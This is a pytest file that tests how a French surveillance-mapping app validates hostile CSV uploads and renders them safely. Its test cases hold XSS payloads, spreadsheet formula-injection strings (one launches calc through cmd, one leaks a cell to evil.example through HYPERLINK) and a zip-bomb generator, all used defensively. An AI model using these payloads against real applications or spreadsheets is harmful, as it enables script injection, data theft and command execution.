"""Hostile data files: read without crashing, every problem named by file, row and column, the rest shown,
and nothing from the data turned into markup on the map or in its popups."""

import datetime as dt
import gzip
import io
import json
import re
import tomllib
import zipfile

import pandas as pd
import pytest
from streamlit.config import ShowErrorDetailsConfigOptions, get_config_options

import utils.upload as upload
import utils.validate as validate
from tests.fixtures.hostile import make_hostile
from tests.fixtures.hostile.html_safety import markdown_markup, risky_markup
from utils.checks import Sheet
from utils.checks_content import MAX_CELL_LENGTH, check_cell_text, check_formulas
from utils.data import load_deployments
from utils.mapping import MapOptions, build_map
from utils.paths import ROOT
from utils.schema import TECHNOLOGIES
from utils.tabular import decode, parse_text, read_table
from utils.vendors import card_html

FIXTURES = make_hostile.HERE
TODAY = dt.date(2026, 11, 27)
HOSTILE = FIXTURES / "hostile.csv"
SOURCE_EXPECTED = "attendu une URL http(s) (exemple : https://technopolice.fr/nimes/)"
TEXT_EXPECTED = "attendu du texte sans caractère de contrôle ni caractère invisible"
FORMULA_EXPECTED = "attendu un texte qui ne commence pas par =, +, - ou @"
FORMULA_FOUND = (", qu'un tableur exécuterait comme une formule (les exports CSV le neutralisent par une "
                 "apostrophe)")


@pytest.fixture(autouse=True)
def fixed_references(monkeypatch):
    """The vendor the fixtures name, whatever data/vendors.csv holds today."""
    references = validate.References(frozenset(TECHNOLOGIES), frozenset({"Actemium"}))
    monkeypatch.setattr(validate.References, "load", classmethod(lambda cls: references))


def problems_of(name: str, errors: bool = True) -> list[str]:
    """The formatted errors (or warnings) the validator reports for one fixture."""
    report = validate.validate_file(FIXTURES / name, today=TODAY)
    return [problem.format() for problem in report.problems if problem.is_error == errors]


@pytest.mark.parametrize("name", sorted(make_hostile.fixtures()))
def test_that_each_committed_fixture_is_what_make_hostile_writes(name):
    """Test that the file in tests/fixtures/hostile/ has exactly the bytes the generator gives it."""
    assert (FIXTURES / name).read_bytes() == make_hostile.fixtures()[name]


# --- reading ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "rows", "unclosed"), [
    ("a,b,c\n1,\"x\ny\",z\n2,3,4\n", [["1", "x\ny", "z"], ["2", "3", "4"]], []),
    ("a,b,c\n1,\"x,y\n2,3,4\n5,6,7\n", [["1", "x,y"], ["2", "3", "4"], ["5", "6", "7"]], [2]),
    ("a;b;c\r\n1;2;3\r\n4;\"x;y\r\n5;6;7\r\n8;\"q\r\nr\";9\r\n",
     [["1", "2", "3"], ["4", "x;y"], ["5", "6", "7"], ["8", "q\r\nr", "9"]], [3]),
    ("a,b,c\n1,\"x\n", [["1", "x"]], [2]),
    ("a,b,c\n\"1,2,3\n4,5,6\n\"7,8,9\n", [["1,2,3"], ["4", "5", "6"], ["7,8,9"]], [2, 4]),
])
def test_that_an_unclosed_quote_takes_only_its_own_line(text, rows, unclosed):
    """Test that a quote never closed is read as its line alone and flagged, the rows after intact."""
    table = parse_text(text)
    assert (table.rows, table.unclosed_quote_rows) == (rows, unclosed)


def test_that_a_cell_beyond_the_csv_field_limit_does_not_make_the_file_unreadable():
    """Test that a 200 000-character cell is cut at its delimiters and the next row still reads."""
    table = parse_text("a,b,c\n1," + "x" * 200_000 + ",3\n4,5,6\n")
    assert [len(cell) for cell in table.rows[0]] == [1, 200_000, 1]
    assert table.rows[1] == ["4", "5", "6"]


@pytest.mark.parametrize(("data", "encoding", "text"), [
    ("Hôtel".encode(), "utf-8", "Hôtel"),
    ("Hôtel".encode("cp1252"), "cp1252", "Hôtel"),
    ("Hôtel \x00".encode().replace(b"\x00", b"\x81\x8d"), "utf-8", "Hôtel \ufffd\ufffd"),
    ("Hôtel €\x00".encode("cp1252").replace(b"\x00", b"\x81"), "cp1252", "Hôtel €\ufffd"),
    (b"\xef\xbb\xbfa,b\n\x81", "utf-8-sig", "a,b\n\ufffd"),
])
def test_that_bytes_valid_in_no_encoding_become_replacement_characters(data, encoding, text):
    """Test that undecodable bytes are replaced in the encoding that leaves fewer of them."""
    assert decode(data) == (text, encoding)


# --- the validator ---------------------------------------------------------------------------

def test_that_the_validator_names_row_and_column_of_each_hostile_cell():
    """Test the exact error of each rejected row of hostile.csv, and that the other rows have none."""
    bad_id = make_hostile.BAD_ID
    assert problems_of("hostile.csv") == [
        f"hostile.csv:9 [{bad_id}] id: erreur: attendu une valeur conforme au motif ^[a-z0-9]+(-[a-z0-9]+)*$ "
        f"(exemple : « nimes-briefcam-2015 »); trouvé « {bad_id} »",
        f"hostile.csv:10 [source-javascript] sources: erreur: {SOURCE_EXPECTED}; trouvé "
        "« javascript:window.__pwned=1 »",
        f"hostile.csv:11 [source-data] sources: erreur: {SOURCE_EXPECTED}; trouvé "
        "« data:text/html,<script>window.__pwned=1</script> »",
        f"hostile.csv:12 [source-breakout] sources: erreur: {SOURCE_EXPECTED}; trouvé "
        "« https://example.org/\"><script>window.__pwned=1</script> »",
        "hostile.csv:13 [long-cell] description_fr: erreur: attendu au plus 5000 caractères; "
        "trouvé 10000 caractères",
        f"hostile.csv:14 [control-character] site: erreur: {TEXT_EXPECTED}; "
        "trouvé le caractère de contrôle U+0001 en position 7",
        f"hostile.csv:15 [delete-character] operator: erreur: {TEXT_EXPECTED}; "
        "trouvé le caractère de contrôle U+007F en position 7",
        f"hostile.csv:16 [bidi-override] operator: erreur: {TEXT_EXPECTED}; "
        "trouvé le caractère de direction du texte U+202E, qui réordonne l'affichage, en position 10",
        f"hostile.csv:17 [nul-character] site: erreur: {TEXT_EXPECTED}; "
        "trouvé le caractère de contrôle U+0000 en position 6",
    ]


def test_that_formulas_in_free_text_are_warnings_naming_their_cell():
    """Test that each formula-like cell of the formulas row gets a warning, and no other cell does."""
    assert problems_of("hostile.csv", errors=False) == [
        f"hostile.csv:6 [formulas] operator: avertissement: {FORMULA_EXPECTED}; trouvé "
        f"« @SUM(1+1)*cmd|' /C calc'!A0 »{FORMULA_FOUND}",
        f"hostile.csv:6 [formulas] product: avertissement: {FORMULA_EXPECTED}; trouvé "
        f"« =HYPERLINK(\"https://evil.example/?leak=\"&A1;\"cliquez\") »{FORMULA_FOUND}",
        f"hostile.csv:6 [formulas] use_case: avertissement: {FORMULA_EXPECTED}; "
        f"trouvé « +SUM(1;1) »{FORMULA_FOUND}",
        f"hostile.csv:6 [formulas] legal_action: avertissement: {FORMULA_EXPECTED}; trouvé "
        f"« -1+1+cmd|' /C calc'!A0 »{FORMULA_FOUND}",
    ]


def test_that_an_unclosed_quote_is_reported_on_its_row_and_cell():
    """Test that the Excel file's row 3 is reported for its open quote in `site`, rows 4 to 6 are clean."""
    errors = problems_of("broken_quotes.csv")
    assert errors[0] == ("broken_quotes.csv:3 [excel-2] site: erreur: attendu un guillemet « \" » refermé "
                         "dans la même cellule; trouvé un guillemet ouvert jamais refermé (ligne lue seule, "
                         "les suivantes sont intactes)")
    assert {re.match(r"broken_quotes\.csv:(\d+) ", line)[1] for line in errors} == {"3"}


def test_that_undecodable_bytes_are_reported_on_their_row_and_cell():
    """Test that bytes 0x81 0x8d, neither UTF-8 nor Windows-1252, are the one error, in row 3's site."""
    assert problems_of("wrong_encoding.csv") == [
        f"wrong_encoding.csv:3 [encodage-2] site: erreur: {TEXT_EXPECTED}; "
        "trouvé un octet illisible en UTF-8 comme en Windows-1252 (remplacé par U+FFFD) en position 7"]


@pytest.mark.parametrize(("name", "readable", "errors"), [
    ("empty.csv", False, ["empty.csv: erreur: le fichier est vide ou sa première ligne (les en-têtes) est "
                          "vide"]),
    ("binary.csv", False, ["binary.csv: erreur: le fichier contient des octets nuls : ce n'est pas un "
                           "fichier CSV texte"]),
    ("header_only.csv", True, []),
])
def test_that_a_file_that_is_not_a_table_gets_one_file_level_message(name, readable, errors):
    """Test the verdict on an empty, a binary and a header-only file: a message without a row, or none."""
    report = validate.validate_file(FIXTURES / name, today=TODAY)
    assert (report.readable, report.rows, [p.format() for p in report.problems]) == (readable, 0, errors)


def test_that_random_bytes_without_nul_are_read_and_refused_by_their_header():
    """Test that noise is read as text, then reported as missing every column, not as a crash."""
    errors = problems_of("noise.csv")
    assert "noise.csv:1 id: erreur: en-tête : attendu une colonne « id »; trouvé aucune" in errors


@pytest.mark.parametrize(("cell", "found"), [
    ("Parvis de la gare", None),
    ("Ligne 1\nLigne 2\r\nLigne 3\tfin", None),
    ("« guillemets » — tiret’s", None),
    ("a\x01b", "le caractère de contrôle U+0001 en position 2"),
    ("a\x0bb", "le caractère de contrôle U+000B en position 2"),
    ("ab\x7f", "le caractère de contrôle U+007F en position 3"),
    ("a\x85b", "le caractère de contrôle U+0085 en position 2"),
    ("a\u202eb", "le caractère de direction du texte U+202E, qui réordonne l'affichage, en position 2"),
    ("a\u2066b", "le caractère de direction du texte U+2066, qui réordonne l'affichage, en position 2"),
    ("a\ufffdb", "un octet illisible en UTF-8 comme en Windows-1252 (remplacé par U+FFFD) en position 2"),
    ("x" * MAX_CELL_LENGTH, None),
    ("x" * (MAX_CELL_LENGTH + 1), "5001 caractères"),
])
def test_cell_text_rule(cell, found):
    """Test that a cell is flagged for its length or its first unwanted character, and only then."""
    sheet = Sheet("f.csv", pd.DataFrame({"id": ["r"], "site": [cell]}, index=[2]), ["id", "site"])
    assert [p.message.split("; trouvé ")[1] for p in check_cell_text(sheet)] == ([found] if found else [])


@pytest.mark.parametrize(("cell", "warned"), [
    ("=1+1", True), ("+33 1 23", True), ("-2+3", True), ("@SUM(A1)", True), ("=HYPERLINK(\"x\")", True),
    ("-1.55", False), ("+33", False), ("12", False), ("Ville de Nice", False), ("", False), ("a=b", False),
    ("2019-02", False), ("« =1 »", False),
])
def test_formula_rule(cell, warned):
    """Test that only text a spreadsheet would run as a formula is warned about."""
    sheet = Sheet("f.csv", pd.DataFrame({"id": ["r"], "product": [cell]}, index=[2]), ["id", "product"])
    problems = check_formulas(sheet, ["product"])
    assert bool(problems) == warned
    assert all(not p.is_error and (p.row, p.column) == (2, "product") for p in problems)


# --- what the app shows ----------------------------------------------------------------------

def test_that_the_app_shows_the_kept_rows_verbatim_and_names_the_rejected_ones():
    """Test that the hostile text is kept as text, and that each bad row is rejected, not the others."""
    dataset = load_deployments(HOSTILE)
    assert list(dataset.rows["id"]) == list(make_hostile.KEPT)
    assert dataset.rejected_ids == sorted([make_hostile.BAD_ID, *make_hostile.REJECTED])
    shown = dataset.rows.set_index("id")
    for row_id, cells in make_hostile.KEPT.items():
        for column, text in cells.items():
            assert shown.loc[row_id, column] == text.strip()


@pytest.mark.parametrize(("name", "shown", "total", "file_error"), [
    ("hostile.csv", 7, 16, ""),
    ("broken_quotes.csv", 4, 5, ""),
    ("wrong_encoding.csv", 3, 4, ""),
    ("header_only.csv", 0, 0, ""),
    ("noise.csv", 0, 8, ""),
    ("empty.csv", 0, 0, "le fichier est vide ou sa première ligne (les en-têtes) est vide"),
    ("binary.csv", 0, 0, "le fichier contient des octets nuls : ce n'est pas un fichier CSV texte"),
])
def test_that_loading_a_hostile_file_never_raises(name, shown, total, file_error):
    """Test how many rows each fixture gives the app, and the message when the file cannot be read."""
    dataset = load_deployments(FIXTURES / name)
    file_errors = [p.message for p in dataset.problems if not p.row and p.is_error]
    expected_errors = [file_error] if file_error else []
    assert (len(dataset.rows), dataset.total, file_errors) == (shown, total, expected_errors)


# --- map and popups --------------------------------------------------------------------------

def harmless(rows: pd.DataFrame) -> pd.DataFrame:
    """The rows with every hostile cell of KEPT replaced by plain text."""
    rows = rows.copy()
    for row_id, cells in make_hostile.KEPT.items():
        for column in cells:
            rows.loc[rows["id"] == row_id, column] = "texte"
    return rows


def payload(html: str) -> dict:
    """The marker data (`var P = {…};`) of a rendered map."""
    return json.loads(re.search(r"var P = (\{.*?\});\n", html)[1])


@pytest.fixture(scope="module")
def hostile_rows() -> pd.DataFrame:
    return load_deployments(HOSTILE).rows


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_that_popups_of_hostile_rows_hold_no_markup_but_their_source_links(hostile_rows, lang):
    """Test that every string the popups concatenate is text or an http(s) link, payloads included."""
    html = build_map(hostile_rows, lang, options=MapOptions(tiles=False)).get_root().render()
    strings = payload(html)["s"]
    assert any("__pwned" in text for text in strings)
    assert {text: risky_markup(text) for text in strings if risky_markup(text)} == {}


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_that_hostile_text_adds_no_markup_to_the_map_page(hostile_rows, lang):
    """Test that the map's HTML has the same scripts, styles and links as with harmless text."""
    def render(rows):
        return build_map(rows, lang, options=MapOptions(tiles=False)).get_root().render()

    hostile, plain = render(hostile_rows), render(harmless(hostile_rows))
    assert risky_markup(hostile) == risky_markup(plain)
    assert "<" not in re.search(r"var P = (\{.*?\});\n", hostile)[1]  # no </script> nor <!-- in the data



# --- uploads on the Contribute page ----------------------------------------------------------

def zip_bomb(size: int = 50 * 1024 * 1024) -> bytes:
    """A .zip holding one file of `size` zero bytes: a few kB that would expand to 50 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("deployments.csv", bytes(size))
    return buffer.getvalue()


@pytest.mark.parametrize(("data", "reason"), [
    (b"id\n" + b"x" * upload.MAX_UPLOAD_BYTES, "fichier trop gros : 5.0 Mo, la limite est de 5 Mo"),
    (zip_bomb(), "ce fichier est une archive ou un classeur"),
    (gzip.compress(bytes(50 * 1024 * 1024)), "ce fichier est une archive ou un classeur"),
    ((FIXTURES / "binary.csv").read_bytes(), "fichier binaire (caractères de contrôle)"),
    ((FIXTURES / "noise.csv").read_bytes(), "fichier binaire (caractères de contrôle)"),
    (HOSTILE.read_bytes(), "fichier binaire (caractères de contrôle)"),  # its rows with \x00, \x01, \x7f
    (b"id\n" + b"a\n" * 1_000_000, "trop de lignes : 1000001 lignes de texte, la limite est de 100000"),
    (b"id,commune\n" + b"\r\n" * 2_000_000, "trop de lignes : 2000001 lignes de texte"),
    ((FIXTURES / "empty.csv").read_bytes(), "fichier illisible : le fichier est vide"),
    ((FIXTURES / "header_only.csv").read_bytes(), "aucune ligne de données sous l'en-tête"),
])
def test_that_a_hostile_upload_is_refused_before_it_is_read(data, reason):
    """Test that oversize files, archives (zip and gzip bombs), binaries and floods of lines are refused."""
    with pytest.raises(upload.UploadRefused) as refused:
        upload.read_upload("deployments.csv", data)
    assert refused.value.message("fr").startswith(reason)


def test_that_the_zip_bomb_is_a_bomb():
    """Test that the archive refused above is small and would expand a thousandfold."""
    bomb = zip_bomb()
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.infolist()[0].file_size > 1000 * len(bomb)


@pytest.mark.parametrize("name", ["broken_quotes.csv", "wrong_encoding.csv"])
def test_that_a_hostile_file_uploaded_is_reviewed_row_by_row(name):
    """Test that an uploaded file with an open quote or undecodable bytes is read, its row 3 alone flagged."""
    table = upload.read_upload(name, (FIXTURES / name).read_bytes())
    review = upload.review_table(table, read_table(HOSTILE).to_frame(), today=TODAY)
    assert (len(review.table.rows), review.rows_with_errors) == (len(table.rows), [3])


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_that_a_hostile_vendor_card_shown_as_html_holds_no_markup_from_the_data(lang):
    """Test that the vendor card (Markdown with raw HTML on) makes no tag, handler or link from its cells."""
    card = {"name": "Acme", "country": make_hostile.SCRIPT, "headquarters": "<img src=x onerror=alert(1)>",
            "website": "javascript:window.__pwned=1",
            "description_fr": make_hostile.KEPT["text-urls"]["description_fr"],
            "description_en": "![x](https://evil.example/pixel.png) <svg onload=window.__pwned=1>"}
    assert markdown_markup(card_html(card, lang)) == []


# --- settings for public hosting -------------------------------------------------------------

@pytest.mark.parametrize(("section", "name", "value"), [
    ("server", "enableXsrfProtection", True),
    ("server", "enableCORS", True),
    ("server", "maxUploadSize", upload.MAX_UPLOAD_MB),
    ("server", "enableStaticServing", True),
    ("browser", "gatherUsageStats", False),
    ("client", "showErrorDetails", "none"),
    ("client", "disableDataExport", True),
])
def test_config_is_fit_for_public_hosting(section, name, value):
    """Test that config.toml sets each setting DEPLOY.md relies on, under a name Streamlit knows."""
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings[section][name] == value
    assert f"{section}.{name}" in get_config_options()  # a misspelt name would be ignored silently
    assert settings["client"]["showErrorDetails"] in set(ShowErrorDetailsConfigOptions)
